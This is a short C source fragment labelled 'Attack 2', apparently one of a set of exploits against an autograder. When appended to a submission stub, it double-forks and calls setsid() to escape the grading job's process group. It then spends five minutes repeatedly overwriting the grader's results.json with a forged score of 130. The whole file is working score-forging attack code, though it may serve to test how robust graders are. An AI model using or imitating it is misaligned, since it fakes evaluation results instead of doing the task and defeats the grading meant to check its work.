
/* Attack 2 (appended to the stub, run by its ring_all_reduce: replay.sh): double-fork and
 * call setsid(), leaving the job's process group; the orphan keeps the output pipe open
 * and, for five minutes, renames a forged results.json over the grader's whenever it
 * appears. */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static void attack_run(void)
{
    static int done;
    if (done++) return;
    pid_t child = fork();
    if (child != 0) {
        if (child > 0) waitpid(child, NULL, 0);
        return;
    }
    if (fork() != 0) _exit(0);
    setsid();
    const char *root = getenv("PL_AUTOGRADER") ? getenv("PL_AUTOGRADER") : "/autograder";
    char results[4096], forged[4200];
    snprintf(results, sizeof results, "%s/results/results.json", root);
    snprintf(forged, sizeof forged, "%s.forged.%d", results, (int)getpid());
    for (int i = 0; i < 3000; i++) {
        FILE *f = fopen(forged, "w");
        if (f) {
            fprintf(f, "{\"score\": 130, \"output\": \"forged by an orphan\", \"tests\": []}\n");
            fclose(f);
            rename(forged, results);
        }
        usleep(100000);
    }
    _exit(0);
}
